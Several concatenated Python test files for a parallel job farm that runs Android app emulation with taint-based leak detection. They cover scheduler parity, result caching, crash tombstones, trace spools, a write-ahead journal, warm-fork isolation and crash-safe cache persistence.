    benchmark.pedantic(run, rounds=5, iterations=1)
