"""End-to-end farm behavior: parity, resume, containment, merge."""

import json
import os

from repro.farm import (
    FarmScheduler,
    JobSpec,
    Manifest,
    ResultStore,
    merge_results,
    render_farm_report,
    sink_counts,
    write_farm_artifacts,
)
from repro.farm.scheduler import CACHEABLE, _lost_result

SMALL_CORPUS = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:case2", kind="scenario", target="case2"),
    JobSpec(id="market:com.market.ephone", kind="market",
            target="com.market.ephone"),
    JobSpec(id="market:com.market.smsbackup", kind="market",
            target="com.market.smsbackup"),
])


def _run(manifest, workers=1, store=None, resume=False):
    scheduler = FarmScheduler(manifest, workers=workers, store=store,
                              resume=resume)
    results = scheduler.run()
    return scheduler, results


def _parity_view(results):
    return [(r["job"]["id"], r["status"], len(r["leaks"]),
             sink_counts(r["metrics"])) for r in results]


class TestParity:
    def test_parallel_run_matches_serial_per_app_counts(self):
        __, serial = _run(SMALL_CORPUS, workers=1)
        __, parallel = _run(SMALL_CORPUS, workers=2)
        assert _parity_view(serial) == _parity_view(parallel)
        # The parallel run genuinely crossed the process boundary.
        pids = {r["worker_pid"] for r in parallel}
        assert os.getpid() not in pids

    def test_results_come_back_in_manifest_order(self):
        __, results = _run(SMALL_CORPUS, workers=2)
        assert [r["job"]["id"] for r in results] == \
            [job.id for job in SMALL_CORPUS]


class TestResume:
    def test_second_run_replays_from_cache(self, tmp_path):
        store = ResultStore(str(tmp_path))
        first_scheduler, first = _run(SMALL_CORPUS, store=store, resume=True)
        assert first_scheduler.cached_jobs == 0
        assert len(store) == len(SMALL_CORPUS)
        second_scheduler, second = _run(SMALL_CORPUS, store=store,
                                        resume=True)
        assert second_scheduler.cached_jobs == len(SMALL_CORPUS)
        assert all(r["cached"] for r in second)
        assert _parity_view(first) == _parity_view(second)
        assert store.hits == len(SMALL_CORPUS)

    def test_changed_spec_misses_the_cache(self, tmp_path):
        store = ResultStore(str(tmp_path))
        manifest = Manifest(jobs=[JobSpec(id="scenario:ephone",
                                          kind="scenario",
                                          target="ephone")])
        _run(manifest, store=store, resume=True)
        changed = Manifest(jobs=[JobSpec(id="scenario:ephone",
                                         kind="scenario", target="ephone",
                                         seed=99)])
        scheduler, results = _run(changed, store=store, resume=True)
        assert scheduler.cached_jobs == 0
        assert not results[0]["cached"]


class TestCrashContainment:
    def test_crashing_job_yields_tombstone_while_siblings_complete(self):
        # The worker-crash analog: an injected decode fault kills one
        # job's emulation the way hostile native code would.
        manifest = Manifest(jobs=[
            JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
            JobSpec(id="scenario:crashy", kind="scenario", target="ephone",
                    faults="decode@1"),
            JobSpec(id="market:com.market.smsbackup", kind="market",
                    target="com.market.smsbackup"),
        ])
        scheduler, results = _run(manifest, workers=2)
        report = merge_results(results, workers=2,
                               wall_seconds=scheduler.wall_seconds)
        by_id = {r["job"]["id"]: r for r in results}
        crashed = by_id["scenario:crashy"]
        assert crashed["status"] == "crashed"
        assert crashed["tombstone"] is not None
        assert crashed["tombstone"]["error_type"] == "DecodeError"
        assert by_id["scenario:ephone"]["status"] == "ok"
        assert by_id["market:com.market.smsbackup"]["status"] == "ok"
        assert report.outcomes == {"ok": 2, "crashed": 1}
        assert [job_id for job_id, __ in report.tombstones] == \
            ["scenario:crashy"]
        text = render_farm_report(report)
        assert "== tombstones ==" in text
        assert "scenario:crashy: DecodeError" in text

    def test_lost_worker_result_is_synthesized_and_never_cached(self):
        spec = JobSpec(id="scenario:ephone", kind="scenario",
                       target="ephone")
        lost = _lost_result(spec, RuntimeError("pool broke"), 1.0)
        assert lost["status"] == "lost"
        assert lost["status"] not in CACHEABLE
        assert "pool broke" in lost["error"]
        assert lost["digest"] == spec.digest()


class TestMergedReport:
    def test_report_renders_and_artifacts_round_trip(self, tmp_path):
        scheduler, results = _run(SMALL_CORPUS, workers=1)
        report = merge_results(results, workers=1,
                               wall_seconds=scheduler.wall_seconds)
        text = render_farm_report(report)
        assert "== farm ==" in text
        assert "scenario:ephone" in text
        assert "== analysis work" in text
        # The leaker's destination surfaces in the table.
        assert "softphone.comwave.net:5060" in text

        out = str(tmp_path / "farm-out")
        write_farm_artifacts(report, out)
        with open(os.path.join(out, "farm.json")) as handle:
            farm = json.load(handle)
        assert farm["jobs"] == len(SMALL_CORPUS)
        assert farm["outcomes"] == {"ok": len(SMALL_CORPUS)}
        assert os.path.exists(os.path.join(out, "merged", "metrics.json"))
        assert os.path.exists(os.path.join(out, "report.txt"))
        job_files = os.listdir(os.path.join(out, "jobs"))
        assert len(job_files) == len(SMALL_CORPUS)

    def test_merged_metrics_equal_sum_of_job_metrics(self):
        __, results = _run(SMALL_CORPUS, workers=1)
        report = merge_results(results)
        name = "core.sink_checks"
        expected = sum(r["metrics"].get(name, 0) for r in results)
        assert report.merged_metrics[name] == expected
        assert expected > 0

    def test_traced_jobs_merge_a_job_tagged_trace(self, tmp_path):
        manifest = Manifest(jobs=[
            JobSpec(id="scenario:ephone", kind="scenario", target="ephone",
                    trace=True)])
        scheduler, results = _run(manifest)
        assert results[0]["trace"]
        report = merge_results(results, wall_seconds=scheduler.wall_seconds)
        out = str(tmp_path / "traced")
        write_farm_artifacts(report, out)
        trace_path = os.path.join(out, "merged", "trace.jsonl")
        with open(trace_path) as handle:
            edges = [json.loads(line) for line in handle if line.strip()]
        assert edges
        assert all(edge["job"] == "scenario:ephone" for edge in edges)
