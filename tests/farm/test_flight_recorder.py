"""The farm's flight recorder: spools, merge semantics, crash replay,
console, and the engine-identical-when-traced guarantee."""

import json
import os
import signal

from repro.farm import FarmScheduler, JobSpec, Manifest, merge_spans
from repro.farm.chaos import ChaosMonkey
from repro.farm.console import (
    FarmConsole,
    cache_hit_rates,
    spool_live_state,
    tail_spool,
)
from repro.farm.health import stamp_heartbeat
from repro.farm.merge import merge_metrics, write_trace_artifacts
from repro.farm.worker import execute_job
from repro.observability.flight import FlightSpool, validate_chrome_trace
from repro.observability.spans import SpanTracer

TWO_JOBS = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:benign", kind="scenario", target="benign"),
])


class TestTypeAwareMerge:
    """Pin for the gauges-were-summed bug: 'cached blocks right now'
    across eight workers is not eight times the cache."""

    ROWS = [
        {"metrics": {"core.sink_checks": 2, "tbc.cached_blocks": 10,
                     "lat.count": 4, "lat.sum": 40, "lat.min": 5,
                     "lat.max": 20, "lat.mean": 10.0, "lat.p50": 9,
                     "lat.p95": 19, "lat.p99": 20},
         "metrics_gauges": ["tbc.cached_blocks"]},
        {"metrics": {"core.sink_checks": 3, "tbc.cached_blocks": 4,
                     "lat.count": 1, "lat.sum": 50, "lat.min": 50,
                     "lat.max": 50, "lat.mean": 50.0, "lat.p50": 50,
                     "lat.p95": 50, "lat.p99": 50},
         "metrics_gauges": ["tbc.cached_blocks"]},
    ]

    def test_counters_sum(self):
        assert merge_metrics(self.ROWS)["core.sink_checks"] == 5

    def test_gauges_take_max_not_sum(self):
        assert merge_metrics(self.ROWS)["tbc.cached_blocks"] == 10

    def test_histogram_components_merge_by_type(self):
        merged = merge_metrics(self.ROWS)
        assert merged["lat.count"] == 5
        assert merged["lat.sum"] == 90
        assert merged["lat.min"] == 5
        assert merged["lat.max"] == 50
        # Mean and percentiles are count-weighted, exact for the mean:
        # (10*4 + 50*1) / 5.
        assert merged["lat.mean"] == 18.0
        assert merged["lat.p50"] == (9 * 4 + 50) / 5
        assert merged["lat.p99"] == (20 * 4 + 50) / 5

    def test_rows_without_gauge_declarations_still_merge(self):
        merged = merge_metrics([{"metrics": {"a": 1}},
                                {"metrics": {"a": 2}}])
        assert merged["a"] == 3

    def test_non_numeric_values_are_skipped(self):
        merged = merge_metrics([{"metrics": {"a": 1, "note": "text"}}])
        assert "note" not in merged


class TestCrashConsistency:
    """SIGKILL mid-span must replay as an open-span marker, never an
    exception."""

    def test_sigkilled_worker_leaves_a_replayable_open_span(self, tmp_path):
        spool_path = str(tmp_path / "worker-dead.jsonl")
        pid = os.fork()
        if pid == 0:
            try:
                tracer = SpanTracer(spool=FlightSpool(spool_path),
                                    trace_id="deadbeef")
                tracer.begin("job", cat="worker", id="scenario:doomed")
                tracer.event("last_gasp", cat="worker")
                os.kill(os.getpid(), signal.SIGKILL)
            finally:
                os._exit(1)  # pragma: no cover - SIGKILL got there first
        __, status = os.waitpid(pid, 0)
        assert os.WIFSIGNALED(status)

        timeline = merge_spans(str(tmp_path))
        (span,) = timeline["spans"]
        assert span["open"] is True
        assert span["name"] == "job"
        assert span["trace"] == "deadbeef"
        assert span["args"]["id"] == "scenario:doomed"
        # And the Chrome export of the torn run still validates.
        paths = write_trace_artifacts(str(tmp_path))
        with open(paths["trace"]) as fh:
            assert validate_chrome_trace(json.load(fh)) == []

    def test_manually_torn_spool_tail_never_raises(self, tmp_path):
        tracer = SpanTracer(spool=FlightSpool(str(tmp_path / "w.jsonl")))
        with tracer.span("job"):
            pass
        tracer.close()
        with open(str(tmp_path / "w.jsonl"), "a") as fh:
            fh.write('{"ph":"B","ts":99.0,"pid":1,"sp')
        timeline = merge_spans(str(tmp_path))
        assert len(timeline["spans"]) == 1
        assert timeline["open_spans"] == 0

    def test_chaos_poisoned_farm_still_aggregates_a_valid_trace(
            self, tmp_path):
        poison = TWO_JOBS.jobs[0].digest()
        monkey = ChaosMonkey(seed=7, poison_digest=poison,
                             kill_pct=0, stop_pct=0, truncate_pct=0)
        trace_dir = str(tmp_path / "flight")
        scheduler = FarmScheduler(TWO_JOBS, workers=2, chaos=monkey,
                                  run_dir=str(tmp_path / "run"),
                                  trace_dir=trace_dir)
        results = scheduler.run()
        by_id = {r["job"]["id"]: r for r in results}
        assert by_id["scenario:ephone"]["status"] == "poison"
        assert by_id["scenario:benign"]["status"] == "ok"

        timeline = merge_spans(trace_dir)  # must not raise on torn spools
        paths = write_trace_artifacts(trace_dir)
        with open(paths["trace"]) as fh:
            assert validate_chrome_trace(json.load(fh)) == []
        # The scheduler's own spool records the quarantine decision,
        # correlated to the poison job's trace id.
        quarantines = [e for e in timeline["events"]
                       if e["name"] == "quarantined"]
        assert quarantines
        assert all(e["trace"] == poison[:12] for e in quarantines)


class TestFarmTraceEndToEnd:
    def test_forked_farm_produces_correlated_spools(self, tmp_path):
        trace_dir = str(tmp_path / "flight")
        scheduler = FarmScheduler(TWO_JOBS, workers=2,
                                  run_dir=str(tmp_path / "run"),
                                  trace_dir=trace_dir)
        results = scheduler.run()
        assert all(r["status"] == "ok" for r in results)

        timeline = merge_spans(trace_dir)
        cats = {s["cat"] for s in timeline["spans"]}
        assert {"scheduler", "worker", "engine"} <= cats
        names = {s["name"] for s in timeline["spans"]}
        assert {"job", "platform_boot", "scenario_run",
                "store_commit"} <= names
        # Every job's trace id appears on both sides of the fork.
        for spec in TWO_JOBS:
            trace_id = spec.digest()[:12]
            sides = {s["cat"] for s in timeline["spans"]
                     if s["trace"] == trace_id}
            assert "scheduler" in sides
            assert sides & {"worker", "engine"}
        # Cache counters were sampled into the stream.
        counter_names = {c["name"] for c in timeline["counters"]}
        assert {"tbc.hits", "jni.trampoline.hits", "tb.hits"} <= \
            counter_names

    def test_inline_scheduler_traces_without_forking(self, tmp_path):
        trace_dir = str(tmp_path / "flight")
        scheduler = FarmScheduler(TWO_JOBS, workers=1,
                                  run_dir=str(tmp_path / "run"),
                                  trace_dir=trace_dir)
        scheduler.run()
        timeline = merge_spans(trace_dir)
        assert {s["cat"] for s in timeline["spans"]} >= \
            {"scheduler", "worker", "engine"}
        assert timeline["open_spans"] == 0


class TestDifferential:
    """Tracing must observe the engines, not steer them."""

    def test_traced_job_is_engine_identical(self, tmp_path):
        spec = TWO_JOBS.jobs[0].to_dict()
        plain = execute_job(dict(spec))
        tracer = SpanTracer(
            spool=FlightSpool(str(tmp_path / "w.jsonl")))
        traced = execute_job(dict(spec), tracer=tracer)
        tracer.close()

        def engine_view(result):
            # Drop the one instrument tracing itself adds (the JNI
            # crossing latency histogram) — everything else, instruction
            # counts included, must match to the digit.
            return {name: value
                    for name, value in result["metrics"].items()
                    if not name.startswith("jni.crossing_us")}

        assert engine_view(plain) == engine_view(traced)
        assert plain["leaks"] == traced["leaks"]
        assert plain["status"] == traced["status"]
        assert tracer.statistics()["spans_begun"] > 0


class TestConsole:
    def _seed_run(self, tmp_path):
        run_dir = str(tmp_path / "run")
        trace_dir = str(tmp_path / "flight")
        os.makedirs(os.path.join(run_dir, "hb"))
        stamp_heartbeat(os.path.join(run_dir, "hb", "a" * 64),
                        digest="a" * 64, instructions=1234)
        # A worker whose pid no longer exists: verdict must be "dead".
        dead_pid = 2 ** 22 - 1
        with open(os.path.join(run_dir, "hb", "b" * 64), "w") as fh:
            fh.write(f"{dead_pid} 1.0 {'b' * 64} 7\n")
        with open(os.path.join(run_dir, "journal.jsonl"), "w") as fh:
            fh.write(json.dumps({"event": "dispatched", "digest": "x"}))
            fh.write("\n")
            fh.write(json.dumps({"event": "done", "digest": "x"}) + "\n")
        spool = FlightSpool(os.path.join(trace_dir, "worker-live.jsonl"))
        tracer = SpanTracer(spool=spool)
        tracer.begin("scenario_run", cat="worker")
        tracer.counter("tbc.hits", 9)
        tracer.counter("tbc.misses", 1)
        tracer.close()
        return run_dir, trace_dir

    def test_render_frame_without_a_tty(self, tmp_path):
        run_dir, trace_dir = self._seed_run(tmp_path)
        console = FarmConsole(run_dir, trace_dir=trace_dir)
        frame = console.render_frame()
        assert "farm watch" in frame
        assert "dispatched=1 done=1" in frame
        assert "busy" in frame      # our own pid is alive and stamping
        assert "dead" in frame      # the fabricated pid is not
        assert "insns=1234" in frame
        assert "scenario_run" in frame
        assert "tbc=90%" in frame
        assert console.frames_rendered == 1

    def test_render_frame_on_empty_run_dir(self, tmp_path):
        console = FarmConsole(str(tmp_path))
        frame = console.render_frame()
        assert "(no worker heartbeats)" in frame
        assert "(no events yet)" in frame

    def test_tail_spool_skips_torn_lines(self, tmp_path):
        path = str(tmp_path / "s.jsonl")
        with open(path, "w") as fh:
            fh.write('{"ph":"B","ts":1.0,"pid":4,"span":1,"name":"job"}\n')
            fh.write('{"ph":"C","ts":2.0,"pid":4,"name":"tb.hits","va')
        records = tail_spool(path)
        assert [r["ph"] for r in records] == ["B"]
        state = spool_live_state(records)
        assert [s["name"] for s in state["open_spans"]] == ["job"]

    def test_cache_hit_rates(self):
        rates = cache_hit_rates({"tb.hits": 3, "tb.misses": 1,
                                 "jni.trampoline.hits": 0,
                                 "jni.trampoline.misses": 0})
        assert rates == {"tb": 0.75}   # 0/0 caches report nothing

    def test_start_stop_appends_frames_to_non_tty(self, tmp_path):
        import io
        run_dir, trace_dir = self._seed_run(tmp_path)
        out = io.StringIO()
        console = FarmConsole(run_dir, trace_dir=trace_dir,
                              interval=0.01, out=out)
        console.start()
        import time
        deadline = time.monotonic() + 2.0
        while console.frames_rendered == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        console.stop()
        assert "farm watch" in out.getvalue()
        assert "\x1b[" not in out.getvalue()   # no ANSI off-TTY
