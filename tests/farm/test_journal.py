"""The write-ahead run journal: append, replay, torn tails, legality."""

import json
import os

from repro.farm.journal import (
    RunJournal,
    iter_events,
    replay,
    verify_journal,
)

D1 = "aa" * 32
D2 = "bb" * 32


def write_events(path, events):
    with RunJournal(path) as journal:
        for event in events:
            kind = event.pop("event")
            journal.record(kind, **event)


class TestAppend:
    def test_records_round_trip_in_order(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start", "workers": 2},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "done", "digest": D1, "attempt": 1, "status": "ok"},
        ])
        events = list(iter_events(path))
        assert [e["event"] for e in events] == \
            ["run_start", "dispatched", "done"]
        assert events[1]["digest"] == D1

    def test_append_only_across_reopens(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [{"event": "run_start"}])
        write_events(path, [{"event": "run_start"}])
        assert replay(path).run_starts == 2

    def test_missing_file_reads_empty(self, tmp_path):
        assert list(iter_events(str(tmp_path / "nope.jsonl"))) == []
        assert replay(str(tmp_path / "nope.jsonl")).jobs == {}


class TestTornTail:
    def test_half_written_final_line_is_skipped(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
        ])
        with open(path, "a") as handle:
            handle.write('{"event": "done", "digest": "' + D1[:7])
        events = list(iter_events(path))
        assert [e["event"] for e in events] == ["run_start", "dispatched"]
        # The torn "done" never happened: the job is still in flight.
        assert replay(path).in_flight_digests() == [D1]

    def test_non_event_json_lines_are_ignored(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        with open(path, "w") as handle:
            handle.write(json.dumps(["not", "a", "dict"]) + "\n")
            handle.write(json.dumps({"no_event_key": 1}) + "\n")
            handle.write(json.dumps({"event": "run_start"}) + "\n")
        assert [e["event"] for e in iter_events(path)] == ["run_start"]


class TestReplay:
    def test_attempts_and_strikes_accumulate(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "strike", "digest": D1, "reason": "worker died"},
            {"event": "retry", "digest": D1, "next_attempt": 2},
            {"event": "dispatched", "digest": D1, "attempt": 2},
            {"event": "done", "digest": D1, "status": "ok"},
        ])
        state = replay(path)
        ledger = state.jobs[D1]
        assert ledger.attempts == 2
        assert ledger.strikes == 1
        assert ledger.terminal == "done"
        assert not ledger.in_flight

    def test_strikes_survive_scheduler_death(self, tmp_path):
        """The poison-quarantine guarantee: K strikes *total*, not per
        scheduler lifetime."""
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "strike", "digest": D1, "reason": "worker died"},
            {"event": "dispatched", "digest": D1, "attempt": 2},
            {"event": "strike", "digest": D1, "reason": "worker died"},
            # scheduler SIGKILLed here; a new segment begins
            {"event": "run_start", "resume": True},
        ])
        state = replay(path)
        assert state.strikes(D1) == 2
        assert state.run_starts == 2
        assert state.clean_run_ends == 0

    def test_new_segment_clears_in_flight(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "dispatched", "digest": D2, "attempt": 1},
            {"event": "done", "digest": D2, "status": "ok"},
            {"event": "run_start", "resume": True},
        ])
        # D1's worker died with the old scheduler: not in flight anymore.
        assert replay(path).in_flight_digests() == []
        assert replay(path).jobs[D2].terminal == "done"

    def test_interrupted_resolves_in_flight_without_terminal(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "interrupted", "digest": D1, "attempt": 1},
        ])
        ledger = replay(path).jobs[D1]
        assert not ledger.in_flight
        assert ledger.terminal is None  # the job must still re-run


class TestVerify:
    def legal(self):
        return [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "done", "digest": D1, "status": "ok"},
            {"event": "run_end"},
        ]

    def test_legal_history_has_no_violations(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, self.legal())
        assert verify_journal(path) == []

    def test_double_terminal_in_one_segment_flagged(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "done", "digest": D1, "status": "ok"},
            {"event": "done", "digest": D1, "status": "ok"},
        ])
        violations = verify_journal(path)
        assert len(violations) == 1
        assert "double terminal" in violations[0]

    def test_terminal_again_after_resume_is_legal(self, tmp_path):
        # A cached replay of a done job in the next segment is fine.
        path = str(tmp_path / "journal.jsonl")
        write_events(path, self.legal() + [
            {"event": "run_start", "resume": True},
            {"event": "cached", "digest": D1, "status": "ok"},
            {"event": "run_end"},
        ])
        assert verify_journal(path) == []

    def test_done_without_dispatch_flagged(self, tmp_path):
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "done", "digest": D1, "status": "ok"},
        ])
        violations = verify_journal(path)
        assert violations and "without a dispatch" in violations[0]

    def test_double_poison_flagged_across_segments(self, tmp_path):
        # Quarantine is a one-time fleet-wide classification: a second
        # poison record for the same digest is illegal even after resume.
        path = str(tmp_path / "journal.jsonl")
        write_events(path, [
            {"event": "run_start"},
            {"event": "dispatched", "digest": D1, "attempt": 1},
            {"event": "poison", "digest": D1, "strikes": 3},
            {"event": "run_start", "resume": True},
            {"event": "dispatched", "digest": D1, "attempt": 4},
            {"event": "poison", "digest": D1, "strikes": 4},
        ])
        violations = verify_journal(path)
        assert any("poisoned 2 times" in v for v in violations)
