"""Warm workers: template reset, fork isolation, crash-safe persistence.

Pins the warm-fork contract end to end:

* ``Platform.reset_for_job()`` returns a used template to a state that
  re-runs any job with engine-identical results while keeping the
  translation caches warm;
* the worker module reuses one booted template per config across jobs;
* after a fork, self-modifying code invalidates the *child's* warm
  translation state without touching the template in the parent (the
  write-watcher re-registration in ``reset_for_job()``);
* SIGKILLing a process mid-``flush()`` leaves the persistent cache
  loadable — every committed file is whole (fsync+rename discipline).
"""

import os
import signal
import time

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.cpu import isa
from repro.emulator.persist import TranslationPersistence, content_digest
from repro.farm import worker as worker_module
from repro.farm.manifest import JobSpec


@pytest.fixture(autouse=True)
def cold_worker_defaults():
    """Every test starts — and leaves the process — in cold mode."""
    worker_module.configure_warm(False, None)
    yield
    worker_module.configure_warm(False, None)


def leak_rows(platform):
    return [(r.detector, r.sink, r.taint, r.destination, r.payload.hex(),
             r.context) for r in platform.leaks.records]


def wait_exit(pid: int) -> int:
    __, raw = os.waitpid(pid, 0)
    assert os.WIFEXITED(raw), f"child died abnormally (status {raw})"
    return os.WEXITSTATUS(raw)


class TestResetForJob:
    def test_requires_prepare_template(self):
        from repro.common.errors import DalvikError
        platform = make_platform("ndroid")
        with pytest.raises(DalvikError):
            platform.reset_for_job()

    def test_reset_is_engine_identical_to_cold(self):
        name = "qqphonebook"
        cold = make_platform("ndroid")
        run_scenario(ALL_SCENARIOS[name](), cold)
        expected = (leak_rows(cold), cold.work_counters())

        warm = make_platform("ndroid")
        warm.prepare_template()
        for __ in range(3):
            warm.reset_for_job()
            run_scenario(ALL_SCENARIOS[name](), warm)
            assert (leak_rows(warm), warm.work_counters()) == expected

    def test_reset_keeps_translation_caches_warm(self):
        platform = make_platform("ndroid")
        platform.prepare_template()
        platform.reset_for_job()
        run_scenario(ALL_SCENARIOS["case2"](), platform)
        warm_entries = len(platform.emu._decode_cache)
        assert warm_entries > 0
        platform.reset_for_job()
        # The resident library's decoded instructions survived the reset.
        assert len(platform.emu._decode_cache) >= warm_entries
        assert platform._resident_libraries

    def test_reset_clears_job_state(self):
        platform = make_platform("ndroid")
        platform.prepare_template()
        platform.reset_for_job()
        run_scenario(ALL_SCENARIOS["case2"](), platform)
        assert platform.leaks.records
        platform.reset_for_job()
        assert not platform.leaks.records
        assert platform.emu.instruction_count == 0
        assert platform.vm.interpreter.instructions_executed == 0
        assert platform.kernel.syscall_count == 0
        assert len(platform.event_log) == 0


class TestWarmWorker:
    def spec(self, target: str) -> dict:
        return JobSpec(id=f"scenario:{target}", kind="scenario",
                       target=target).to_dict()

    def test_template_reused_across_jobs(self, tmp_path):
        worker_module.configure_warm(True, None)
        cold = worker_module.execute_job(self.spec("case2"))
        assert cold["status"] in ("ok", "degraded")

        template = worker_module.WARM["templates"]["ndroid"]
        second = worker_module.execute_job(self.spec("ephone"))
        assert second["status"] in ("ok", "degraded")
        assert worker_module.WARM["templates"]["ndroid"] is template

    def test_warm_results_match_cold(self):
        targets = ("case1", "case2", "benign")
        cold = {t: worker_module.execute_job(self.spec(t))
                for t in targets}
        worker_module.configure_warm(True, None)
        for target in targets:
            warm = worker_module.execute_job(self.spec(target))
            assert warm["leaks"] == cold[target]["leaks"]
            assert warm["detected"] == cold[target]["detected"]

    def test_persistence_round_trip_through_worker(self, tmp_path):
        cache = str(tmp_path / "tbcache")
        worker_module.configure_warm(False, cache)
        first = worker_module.execute_job(self.spec("case2"))
        assert first["status"] in ("ok", "degraded")
        # "New process": reset the module state, same cache directory.
        worker_module.configure_warm(False, cache)
        second = worker_module.execute_job(self.spec("case2"))
        assert second["leaks"] == first["leaks"]
        persistence = worker_module.WARM["persistence"]
        assert persistence is not None
        hits = sum(c["hits"] for c in persistence.counters.values())
        assert hits > 0


class TestForkIsolation:
    def test_smc_after_fork_invalidates_child_not_template(self):
        platform = make_platform("ndroid")
        platform.prepare_template()
        platform.reset_for_job()
        run_scenario(ALL_SCENARIOS["case2"](), platform)
        platform.reset_for_job()

        name, (program, base, __) = \
            next(iter(platform._resident_libraries.items()))
        emu = platform.emu
        page = base >> 12
        assert any(key in emu._decode_cache
                   for key in list(emu._decode_pages.get(page, ()))), \
            "warm template lost its resident decode entries"
        entries_before = len(emu._decode_cache)

        pid = os.fork()
        if pid == 0:
            code = 1
            try:
                # The child claims the template for its own job: the
                # reset re-registers the write watcher on *this*
                # process's objects.
                platform.reset_for_job()
                emu.memory.write_bytes(base, b"\x2a\x00\xa0\xe3")
                page_keys = emu._decode_pages.get(page, set())
                invalidated = not any(key in emu._decode_cache
                                      for key in list(page_keys)) \
                    and emu._tb_cache.invalidations >= 0
                child_saw_drop = len(emu._decode_cache) < entries_before
                code = 0 if (invalidated and child_saw_drop) else 1
            finally:
                os._exit(code)

        assert wait_exit(pid) == 0
        # The template in the parent never saw the child's write: its
        # warm decode entries for the library are intact.
        assert len(emu._decode_cache) == entries_before
        assert bytes(emu.memory.read_bytes(base, 4)) == \
            bytes(program.code[:4])

    def test_forked_child_reruns_job_with_parity(self):
        worker_module.configure_warm(True, None)
        worker_module.warm_boot_templates(["ndroid"])
        expected = worker_module.execute_job(
            {"id": "scenario:case2", "kind": "scenario",
             "target": "case2", "config": "ndroid"})

        pid = os.fork()
        if pid == 0:
            code = 1
            try:
                result = worker_module.execute_job(
                    {"id": "scenario:case2", "kind": "scenario",
                     "target": "case2", "config": "ndroid"})
                ok = (result["leaks"] == expected["leaks"]
                      and result["detected"] == expected["detected"])
                code = 0 if ok else 1
            finally:
                os._exit(code)
        assert wait_exit(pid) == 0


class TestCrashSafePersistence:
    def test_sigkill_during_flush_leaves_cache_loadable(self, tmp_path):
        root = str(tmp_path / "cache")
        nop = isa.Nop(cond=isa.Cond.AL, width=4)

        pid = os.fork()
        if pid == 0:
            try:
                persistence = TranslationPersistence(root)
                index = 0
                while True:    # flush forever until SIGKILLed mid-write
                    digest = content_digest(f"region-{index}".encode())
                    persistence.update_region(
                        digest, [(offset * 4, False, nop)
                                 for offset in range(64)])
                    persistence.flush()
                    index += 1
            finally:
                os._exit(1)    # only reached if the loop somehow breaks

        time.sleep(0.25)
        os.kill(pid, signal.SIGKILL)
        __, raw = os.waitpid(pid, 0)
        assert os.WIFSIGNALED(raw) and os.WTERMSIG(raw) == signal.SIGKILL

        committed = []
        for dirpath, __, names in os.walk(root):
            for name in names:
                if ".tmp." in name:
                    continue    # an uncommitted temp is expected debris
                assert name.endswith(".json")
                committed.append(name[:-len(".json")])
        assert committed, "child was killed before any flush completed"

        # Every committed entry is whole: a fresh process loads each one.
        fresh = TranslationPersistence(root)
        for digest in committed:
            entries = fresh.load_region(digest)
            assert entries is not None
            assert len(entries) == 64
