"""The streaming farm: shard workers, resume, and the bounded merge."""

import json
import os

from repro.corpus.generator import CorpusGenerator
from repro.farm.journal import RunJournal, iter_events
from repro.farm.manifest import ShardedManifest, iter_corpus_jobs
from repro.farm.merge import (MergeFold, merge_results,
                              render_farm_report, write_farm_artifacts)
from repro.farm.scheduler import StreamFarm, run_farm

SCALE = 0.004
SEED = 2014


def _manifest(tmp_path, chunk=16, shard_size=8):
    return ShardedManifest.write(
        str(tmp_path / "manifest"),
        iter_corpus_jobs(scale=SCALE, seed=SEED, chunk=chunk),
        shard_size=shard_size)


def _corpus_metrics(report):
    return {name: value for name, value in report.merged_metrics.items()
            if name.startswith("corpus.")}


def test_serial_stream_counts_the_whole_corpus(tmp_path):
    manifest = _manifest(tmp_path)
    report = StreamFarm(manifest, workers=1).run()
    assert report.jobs == len(manifest)
    assert report.outcomes == {"ok": len(manifest)}
    plan = CorpusGenerator(seed=SEED, scale=SCALE).plan
    metrics = _corpus_metrics(report)
    assert metrics["corpus.records"] == plan.total
    assert metrics["corpus.type1"] == plan.type1
    assert metrics["corpus.type2"] == plan.type2
    assert metrics["corpus.type3"] == plan.type3
    assert metrics["corpus.plain"] == plan.plain


def test_pool_run_matches_serial(tmp_path):
    manifest = _manifest(tmp_path)
    serial = StreamFarm(manifest, workers=1).run()
    pooled = StreamFarm(manifest, workers=2).run()
    assert pooled.jobs == serial.jobs
    assert _corpus_metrics(pooled) == _corpus_metrics(serial)
    assert pooled.outcomes == serial.outcomes


def test_resume_replays_committed_shards(tmp_path):
    manifest = _manifest(tmp_path)
    run_dir = str(tmp_path / "run")
    first = run_farm(manifest, workers=1, run_dir=run_dir)
    assert first.cached_jobs == 0
    resumed = run_farm(manifest, workers=1, run_dir=run_dir, resume=True)
    assert resumed.cached_jobs == len(manifest)
    assert _corpus_metrics(resumed) == _corpus_metrics(first)
    events = [e["event"]
              for e in iter_events(os.path.join(run_dir, "journal.jsonl"))]
    assert events.count("run_start") == 2
